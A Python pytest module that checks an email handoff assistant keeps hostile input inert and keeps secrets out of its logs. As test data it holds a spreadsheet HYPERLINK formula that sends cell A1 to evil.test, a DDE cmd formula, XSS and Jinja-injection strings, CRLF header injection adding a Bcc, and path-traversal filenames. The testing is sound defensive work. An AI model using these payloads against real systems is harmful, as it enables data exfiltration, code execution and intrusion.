"""Hostile text stays text: formulas, HTML, script, Jinja, control characters, long lines,
header injection, path-like attachment names, and secrets that must never leak.

A manager fills every request field with it and the outgoing CSM answers every section with
it, on the real test servers. Every mail the assistant writes (text and HTML parts) and the
handoff workbook are then read back and checked cell by cell, line by line.
"""

from __future__ import annotations

import base64
import contextlib
import html
import logging
import re
from datetime import UTC, datetime
from email.message import EmailMessage
from pathlib import Path

import pytest
from assistant import ADDRESS, Assistant, parse, wait_until
from letters import gmail, plain
from mailservers import MailServers
from openpyxl import load_workbook

from mailer.state.tokens import resolve_token

NOW = datetime(2026, 11, 2, 10, 0, tzinfo=UTC)
CONTROL = "\x07\x1b[31m\x0b\x08\x1c\x85\u2028"
LONG = "L" * 20_000
PAYLOAD = ("=HYPERLINK(\"http://evil.test/?\"&A1,\"click\") <script>alert('x')</script> "
           "<img src=x onerror=alert(1)> {{ 7*7 }} {% raw %} {{ config }} "
           f"+cmd|' /C calc'!A0 @SUM(1+1) {CONTROL}")
REQUEST = f"""Account: {PAYLOAD}
Outgoing CSM: <b onmouseover=alert(1)>Sam</b> {{{{ 7*7 }}}} <sam@example.com>
Incoming CSM: =1+1 Rita <rita@example.com>
Customer contacts: -2+3 Pat {{% raw %}} <pat@acme.com>, @Jo <script>x</script> <jo@acme.com>
Type: soft
Effective date: 15 Dec 2026
Reason: {PAYLOAD} {LONG}
Share reason: yes
Notes: {PAYLOAD}
"""


def simple_request(account: str) -> str:
    """The request with a plain account name and no hostile text elsewhere."""
    return REQUEST.replace(f"{PAYLOAD} {LONG}", "moving teams").replace(PAYLOAD, account)


SECTION_TITLES = ("Contacts", "Sentiment", "Customer fit", "Red flags and issues", "Successes",
                  "Goals", "Current projects", "Contract", "Renewal risk", "Communication",
                  "Significant events", "Documents")
ANSWERS = "\n\n".join(
    f"## {n}. {title}\n{PAYLOAD} {LONG if n == 3 else ''}" for n, title in
    enumerate(SECTION_TITLES, start=1)).replace(
    "## 1. Contacts\n", "## 1. Contacts\n=Pat <b>Lee</b>, {{ 7*7 }}, pat@acme.com, champion - "
    "<script>alert(1)</script>\n")
C0_CONTROLS = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u2028\u2029]")
LIVE_TAG = re.compile(r"<\s*(script|img|iframe|object)\b|<[^>]*\bon(error|mouseover|load)\s*=",
                      re.IGNORECASE)


def qp_mail(**fields: str) -> bytes:
    """A Gmail-shaped message with every line ending as CRLF (quopri's soft breaks are bare)."""
    return re.sub(rb"(?<!\r)\n", b"\r\n", gmail(**fields))


def questionnaire_address(mail: MailServers) -> str:
    return str(parse(mail.wait_for_messages("sam@example.com", 1)[0])["Reply-To"])


def all_outbound(assistant: Assistant) -> list[EmailMessage]:
    service = assistant.service(clock=lambda: NOW)
    try:
        return [parse(r["raw"]) for r in service.rt.store.all("SELECT raw FROM outbound")]
    finally:
        service.close()


def assert_inert(mail: EmailMessage) -> None:
    subject = str(mail["Subject"])
    text = mail.get_body(("plain",)).get_content()
    markup = mail.get_body(("html",)).get_content()
    for label, part in (("subject", subject), ("text", text), ("html", markup)):
        assert not C0_CONTROLS.search(part), f"control character in the {label} of {subject}"
        if "HYPERLINK" in part:  # the payload is shown here: all of it, as written
            assert "{{ 7*7 }}" in part and "{% raw %}" in part, f"{label} of {subject}"
    assert not LIVE_TAG.search(markup), f"live markup in the HTML of {subject}"
    raw = mail.as_bytes()
    assert max(len(line) for line in raw.split(b"\n")) <= 998, f"over-long line in {subject}"


def test_hostile_text_in_every_field_and_answer_stays_inert(mail, tmp_path):
    assistant = Assistant(tmp_path, mail)
    mail.send(qp_mail(sender="Dana Manager <dana@example.com>", to=ADDRESS, subject="Handover",
                      text=REQUEST, html=f"<pre>{html.escape(REQUEST)}</pre>"),
              mail_from="dana@example.com", rcpt_to=[ADDRESS])
    assistant.run_once(now=NOW)
    address = questionnaire_address(mail)
    mail.send(qp_mail(sender="Sam <sam@example.com>", to=address, subject="Re: questionnaire",
                      text=ANSWERS, html="<div>" + ANSWERS.replace("\n", "<br>") + "</div>"),
              mail_from="sam@example.com", rcpt_to=[address])
    assistant.run_once(now=NOW)

    mails = all_outbound(assistant)
    kinds = {m["Subject"] for m in mails}
    assert len(mails) >= 5, kinds  # answer, questionnaire, notice, receipt, workbook
    for mail_out in mails:
        assert_inert(mail_out)
    started = next(m for m in mails if "is under way as" in m.get_body(("plain",)).get_content())
    assert "{{ 7*7 }}" in started.get_body(("plain",)).get_content(), "shown, not run"
    assert "&lt;script&gt;" in started.get_body(("html",)).get_content()

    [workbook_path] = (tmp_path / "var" / "workbooks").rglob("*.xlsx")
    assert workbook_path.resolve().is_relative_to((tmp_path / "var").resolve())
    cells = 0
    for sheet in load_workbook(workbook_path).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    cells += 1
                    where = f"{sheet.title}!{cell.coordinate}"
                    assert cell.data_type != "f", f"{where} is a formula"
                    assert not C0_CONTROLS.search(cell.value), f"{where} has control characters"
    assert cells > 50


def _encoded(text: str) -> str:
    return f"=?utf-8?b?{base64.b64encode(text.encode()).decode()}?="


def test_a_header_injection_in_subject_or_name_adds_no_header_and_no_recipient(mail, tmp_path):
    assistant = Assistant(tmp_path, mail)
    sneaky = _encoded("hello\r\nBcc: eve@evil.test\r\nX-Evil: 1")
    name = _encoded("Pat\r\nBcc: eve@evil.test")
    raw = (f"From: {name} <pat@acme.com>\r\nTo: {ADDRESS}\r\n"
           f"Subject: {sneaky}\r\nMessage-ID: <inject-1@acme.com>\r\n\r\nhi\r\n").encode()
    mail.send(raw, mail_from="pat@acme.com", rcpt_to=[ADDRESS])
    assistant.run_once(now=NOW)
    [answer] = mail.wait_for_messages("pat@acme.com", 1)
    refusal = parse(answer)
    assert refusal["Bcc"] is None and refusal["X-Evil"] is None
    assert [e.rcpt_tos for e in mail.accepted if e.mail_from.startswith("transitions")] == \
        [("pat@acme.com",)]
    assert mail.messages("eve@evil.test") == []


@pytest.mark.parametrize("name", [
    "../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/cron.d/evil.xlsx",
    "....//....//evil.xlsx", "%2e%2e%2fevil.xlsx", "\x00evil.xlsx", ".bashrc",
])
def test_attachment_names_with_paths_never_escape_the_data_directory(mail, tmp_path, name):
    home = tmp_path / "home"
    assistant = Assistant(home, mail)
    mail.send(plain(sender="Dana Manager <dana@example.com>", to=ADDRESS, subject="Handover",
                    body=simple_request("../../../../tmp/escape")),
              mail_from="dana@example.com", rcpt_to=[ADDRESS])
    assistant.run_once(now=NOW)
    address = questionnaire_address(mail)
    mail.send(gmail(sender="Sam <sam@example.com>", to=address, subject="Re: questionnaire",
                    text=ANSWERS, html="<p>answers</p>", attachment=(name, b"PK\x03\x04junk")),
              mail_from="sam@example.com", rcpt_to=[address])
    before_outside = set(tmp_path.iterdir())
    assistant.run_once(now=NOW)
    assert set(tmp_path.iterdir()) == before_outside
    for path in home.rglob("*"):
        assert path.resolve().is_relative_to(home.resolve())
        assert path.name not in {"passwd", "win.ini", "evil.xlsx", ".bashrc"}, path
    assert not Path("/tmp/escape handoff TR-0001.xlsx").exists()


def test_secrets_never_reach_the_logs_or_anyone_but_their_owner(mail, tmp_path, caplog):
    smtp_secret = "smtp-Secret-4f1c9a"
    assistant = Assistant(tmp_path, mail, extra_env={"MAILER_SMTP_PASSWORD": smtp_secret})
    caplog.set_level(logging.DEBUG)
    mail.send(plain(sender="Dana Manager <dana@example.com>", to=ADDRESS, subject="Handover",
                    body=simple_request("Acme")),
              mail_from="dana@example.com", rcpt_to=[ADDRESS])
    assistant.run_once(now=NOW)
    address = questionnaire_address(mail)
    mail.send(plain(sender="Sam <sam@example.com>", to=address, subject="Re: questionnaire",
                    body=ANSWERS.replace(PAYLOAD, "fine").replace(LONG, "")),
              mail_from="sam@example.com", rcpt_to=[address])
    mail.send(plain(sender="Eve <eve@evil.test>", to=address, subject="Re: questionnaire",
                    body="let me in"), mail_from="eve@evil.test", rcpt_to=[address])
    assistant.run_once(now=NOW)

    # The real service process too, from start to SIGTERM.
    mail.send(plain(sender="Dana Manager <dana@example.com>", to=ADDRESS, subject="Another",
                    body=simple_request("Initech")),
              mail_from="dana@example.com", rcpt_to=[ADDRESS])
    assistant.start()
    try:
        wait_until(lambda: any(b"Initech" in m for m in mail.messages("dana@example.com")),
                   timeout=20)
    finally:
        assistant.stop()
    boxes = ("dana@example.com", "sam@example.com", "rita@example.com", "eve@evil.test",
             "pat@acme.com")
    # The database keeps only the tokens' hashes: the tokens are the ones people received,
    # and each one's owner is the person the database binds it to.
    seen = {token for box in boxes for received in mail.messages(box)
            for token in re.findall(r"transitions\+([a-z2-7]{26})@", received.decode())}
    service = assistant.service(clock=lambda: NOW)
    try:
        tokens = {token: resolve_token(service.rt.store, token).person_email for token in seen}
        outbound = [(parse(r["raw"]), r["raw"].decode("utf-8", "replace"))
                    for r in service.rt.store.all("SELECT raw FROM outbound")]
    finally:
        service.close()
    assert len(tokens) >= 6
    # A wrong password is where clients love to print what they tried.
    wrong = Assistant(tmp_path / "wrong", mail, extra_env={
        "MAILER_IMAP_PASSWORD": "imap-Wrong-7c2e19", "MAILER_SMTP_PASSWORD": smtp_secret})
    with contextlib.suppress(Exception):
        wrong.run_once(now=NOW)
    # Everything the assistant's process logs: our own modules at DEBUG, and the IMAP and SMTP
    # client libraries at INFO (at DEBUG they trace the wire, message contents included). The
    # test servers log through the same root logger here; their lines are not the assistant's.
    ours = [r for r in caplog.records if r.name.startswith("mailer")
            or (r.levelno >= logging.INFO and not r.name.startswith("mail.log"))]
    logs = "\n".join(r.getMessage() for r in ours) + assistant.log_text()
    wire = "\n".join(r.getMessage() for r in caplog.records if r.name.startswith("imapclient"))
    assert "imap-Wrong" not in wire, "even the wire trace hides the IMAP password"
    assert "IMAP connected" in logs and "imap-Wrong" not in logs
    for secret in (smtp_secret, *tokens):
        assert secret not in logs, "a secret reached the logs"
    # The test servers' password is the word "secret", which also names this test.
    assert not re.search(rf"(?<![\w/-]){mail.password}(?![\w/-])", logs)
    for message, raw in outbound:
        recipients = {a.addr_spec.lower() for h in ("To", "Cc") for a in
                      (message[h].addresses if message[h] else ())}
        for token, owner in tokens.items():
            if token in raw:
                assert recipients == {owner}, f"{owner}'s token went to {recipients}"
        assert mail.password not in raw and smtp_secret not in raw
    for box in boxes:
        for received in mail.messages(box):
            for token, owner in tokens.items():
                assert token not in received.decode("utf-8", "replace") or owner == box
